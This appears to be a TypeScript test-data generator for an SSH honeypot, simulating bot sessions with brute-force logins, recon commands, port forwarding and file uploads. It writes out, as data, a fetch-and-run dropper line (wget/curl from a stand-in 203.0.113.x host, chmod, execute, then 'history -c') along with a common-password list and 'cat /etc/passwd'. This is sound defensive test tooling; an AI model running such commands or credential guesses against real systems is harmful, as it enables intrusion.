/**
 * Strangers as they come to a honeypot: bots that say the same, few of them at a time something new. For an index to be tried with; the same
 * number gives the same crowd. Sessions go through the observer that reads recordings.
 */
import { createHash } from "node:crypto";
import { extractEvidence, type Evidence } from "../../gateway/evidence/extract.ts";
import { toByteString } from "../../gateway/model/bytes.ts";
import type { Capture } from "../../gateway/model/capture.ts";
import type { SandboxId, SessionId } from "../../gateway/model/ids.ts";
import { Conversation, OFFER } from "../evidence/conversation.ts";

export interface Stranger {
  readonly session: SessionId;
  /** Microseconds since 1970. */
  readonly started: number;
  readonly recording: string;
  readonly evidence: Evidence;
  readonly capture: Capture | undefined;
}

/** When the first of them comes; one every 26 seconds on average, which makes 100,000 a month. */
const FIRST = Date.parse("2026-10-24T00:00:00Z");
const APART_MS = 26_000;

export async function* crowd(size: number, seed = 1): AsyncGenerator<Stranger, void, undefined> {
  const random = randomFrom(seed);
  for (let number = 0; number < size; number++) yield await stranger(number, random);
}

async function stranger(number: number, random: Random): Promise<Stranger> {
  const session = createHash("sha256").update(String(number)).digest("hex").slice(0, 12) as SessionId;
  const startedAt = new Date(FIRST + number * APART_MS + random() * APART_MS)
    .toISOString()
    .replace("Z", "000Z");
  const address = source(random);
  const talk = new Conversation(session, startedAt);
  const elsewhere = number % 7 === 0 ? { profile: "elsewhere" } : {};
  const [opened] = talk.entries;
  if (opened?.type === "fact" && opened.fact.kind === "session-opened")
    talk.entries[0] = {
      ...opened,
      fact: { ...opened.fact, source: { address, port: 40_000 }, ...elsewhere },
    };
  const bot = often(random, 60);
  talk.fact({
    kind: "client-version",
    version: bytes(bot < CLIENTS.length ? (CLIENTS[bot] ?? "") : `SSH-2.0-rare_${bot}`),
  });
  talk.fact({ kind: "key-exchange", offer: OFFER, hassh: md5(`hassh ${bot}`) });
  const user = random() < 0.6 ? "root" : (USERS[often(random, USERS.length)] ?? `user${often(random, 4000)}`);
  const profile = user === "root" ? elsewhere.profile : "by name";
  for (let tries = often(random, 6); tries > 0; tries--)
    talk.after(900).password(user, password(random), "refused", profile);
  const inside = random() < 0.35;
  const sandbox = createHash("md5").update(address).digest("hex").slice(0, 12) as SandboxId;
  if (inside) {
    talk.after(900).password(user, password(random), "accepted", profile);
    talk.fact({
      ...{ kind: "sandbox-leased", sandbox, container: "c0ffee", address: "10.200.0.2" },
      ...({ state: "new", image: "mitsubako/debian-12" } as const),
    } as const);
    talk.fact({ kind: "logged-in", user: bytes(user), method: "password" });
    act(talk, random);
  }
  talk.after(random() < 0.01 ? 900_000 : Math.floor(3000 * random()));
  const evidence = await extractEvidence(talk.whole(inside ? "client-closed" : "too-many-attempts"));
  const capture =
    inside && random() < 0.4 ? captured(talk.session, sandbox, address, startedAt, random) : undefined;
  const started = Date.parse(startedAt) * 1000;
  return {
    session,
    started,
    recording: `recordings/${startedAt.slice(0, 10)}/${session}/session.mbr`,
    evidence,
    capture,
  };
}

function act(talk: Conversation, random: Random): void {
  const kind = random();
  if (kind < 0.45) {
    talk.exec(talk.after(200).open(), RECON[often(random, RECON.length)] ?? "id");
  } else if (kind < 0.7) {
    const host = `203.0.113.${often(random, 250)}`;
    const name = random() < 0.9 ? `bins${often(random, 40)}.sh` : md5(String(random())).slice(0, 8);
    const fetch = `wget http://${host}/${name} || curl -O http://${host}/${name}; chmod 777 ${name}; ./${name}`;
    talk.exec(
      talk.after(200).open(),
      `cd /tmp || cd /var/run || cd /mnt; ${fetch}; rm -rf ${name}; history -c`,
    );
  } else if (kind < 0.85) {
    talk.forward(`mail${often(random, 300)}.example`, 25);
  } else if (kind < 0.95) {
    const shell = talk.open();
    talk.shell(shell);
    for (let lines = 3 + Math.floor(random() * 12); lines > 0; lines--) {
      talk.gets(shell, "\x1b[?2004h$ ").after(700);
      talk.sends(shell, `${LINES[often(random, LINES.length)] ?? "ls"}\r`).gets(shell, "\r\n\x1b[?2004l\r");
    }
  } else {
    const channel = talk.open();
    const content = `payload ${often(random, 400)}`;
    talk
      .exec(channel, "scp -t /tmp")
      .sends(channel, `C0755 ${content.length} ${md5(content).slice(0, 6)}\n${content}\0`);
    talk.exits(channel, 0);
  }
}

function captured(
  session: SessionId,
  sandbox: SandboxId,
  address: string,
  takenAt: string,
  random: Random,
): Capture {
  const changes = Array.from({ length: 2 + Math.floor(random() * 6) }, (_, place) => {
    const content = md5(`${place} ${often(random, 3000)}`);
    const path = place === 0 ? "/root/.bash_history" : `/tmp/.${content.slice(0, 5)}/x`;
    return { kind: "A", path, type: "file", size: 4000, sha256: content + content } as const;
  });
  // No number of the crowd's own is taken for it.
  const sum = parseInt(session.slice(0, 3), 16);
  const traffic =
    sum % 3 === 0
      ? { up: sum, down: sum * 1000, ...(sum % 2 === 0 ? { spent: true as const } : {}) }
      : undefined;
  return {
    ...{ sandbox, sessions: [session], source: address, takenAt, changes, cut: false },
    ...(traffic === undefined ? {} : { traffic }),
  };
}

type Random = () => number;

/** mulberry32 */
function randomFrom(seed: number): Random {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** A number below the bound, the low ones far more often: about as Zipf has it. */
function often(random: Random, bound: number): number {
  return Math.floor(bound ** random()) - 1;
}

function source(random: Random): string {
  const rank = often(random, 20_000);
  const mixed = Math.imul(rank + 1, 2_654_435_761) >>> 0;
  if (rank % 50 === 7) return `2001:db8:${(mixed >>> 16).toString(16)}::${(mixed & 0xffff).toString(16)}`;
  return `${1 + ((mixed >>> 24) % 222)}.${(mixed >>> 16) & 255}.${(mixed >>> 8) & 255}.${mixed & 255}`;
}

function password(random: Random): string {
  const rank = often(random, 60_000);
  return PASSWORDS[rank] ?? `${md5(String(rank)).slice(0, 3 + (rank % 7))}${rank % 3 === 0 ? "123" : ""}`;
}

function md5(text: string): string {
  return createHash("md5").update(text).digest("hex");
}

function bytes(text: string) {
  return toByteString(Buffer.from(text));
}

const CLIENTS = [
  ...["SSH-2.0-Go", "SSH-2.0-libssh2_1.11.0", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-PUTTY"],
  ...[
    "SSH-2.0-paramiko_2.12.0",
    "SSH-2.0-JSCH-0.1.54",
    "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3",
    "SSH-2.0-ZGrab",
  ],
];
const USERS = [
  ...[
    "admin",
    "ubuntu",
    "user",
    "test",
    "oracle",
    "postgres",
    "pi",
    "git",
    "ftp",
    "guest",
    "hadoop",
    "mysql",
  ],
  ...[
    "support",
    "deploy",
    "jenkins",
    "nagios",
    "www",
    "tomcat",
    "ec2-user",
    "centos",
    "debian",
    "dev",
    "steam",
  ],
];
const PASSWORDS = [
  ...["123456", "password", "admin", "root", "12345", "1234", "123", "12345678", "qwerty", "1", "raspberry"],
  ...["test", "admin123", "P@ssw0rd", "111111", "ubuntu", "abc123", "letmein", "changeme", "toor", "000000"],
];
const RECON = [
  ...[
    "uname -a",
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "nproc",
    "id",
    "whoami; w",
  ],
  ...[
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "lscpu",
  ],
  ...[
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cat /etc/os-release",
    "ps aux | grep -i miner",
    "echo ok",
  ],
];
const LINES = [
  ...[
    "ls",
    "ls -la",
    "w",
    "cat /etc/passwd",
    "ps aux",
    "cd /tmp",
    "history",
    "ifconfig",
    "top",
    "exit",
    "df -h",
  ],
  ...[
    "cat /proc/cpuinfo",
    "passwd",
    "last",
    "netstat -an",
    "vi x.sh",
    "echo test > /tmp/x",
    "nano",
    "apt update",
  ],
];
